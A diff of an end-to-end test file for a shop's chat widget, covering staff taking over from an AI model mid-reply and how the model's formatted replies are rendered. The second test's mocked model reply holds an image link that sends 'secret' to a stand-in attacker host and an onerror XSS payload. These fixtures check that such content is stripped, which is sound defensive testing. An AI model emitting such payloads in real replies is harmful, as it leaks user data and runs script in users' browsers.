@@ -39,7 +39,7 @@ it("lets a person take over while the model speaks: not a word of it comes after
   await staff.page.getByText("The customer is writing").waitFor();
   await customer.page.keyboard.press("Enter");
   await staff.page.getByRole("list", { name: "Messages" }).getByText("Mending").waitFor();
-  await staff.page.getByLabel("Your answer").pressSequentially("We mend");
+  await staff.page.getByLabel("Your answer").pressSequentially("We mend what moths have eaten", { delay: 100 });
   await customer.page.getByText("is writing").waitFor();
   await customer.page.reload();
   await customer.page.getByRole("button", { name: "Ask us" }).click();
@@ -55,7 +55,7 @@ it("lets a person take over while the model speaks: not a word of it comes after
 });
 
 it("shows the model's bold and lists, and of its links, images and HTML only the shop's own pages", async () => {
-  model.mock.onMessage("tell me of the farm", { content: "It is **very** green.\n\n- one sheep\n- another sheep\n\nSee [our help](/help) or [the farm](https://evil.example/a). ![sheep](https://evil.example/sheep.png?d=secret) <img src=x onerror=alert(1)>" });
+  model.mock.onMessage("tell me of the farm", { content: "It is **very** green.\n\n- one sheep\n- another sheep\n\nSee [our help](/help). Or [the farm](https://evil.example/a). ![sheep](https://evil.example/sheep.png?d=secret) <img src=x onerror=alert(1)>" });
   const { page, faults, close } = await openChat(phone);
   await say(page, "tell me of the farm");
   const chat = page.getByRole("dialog");
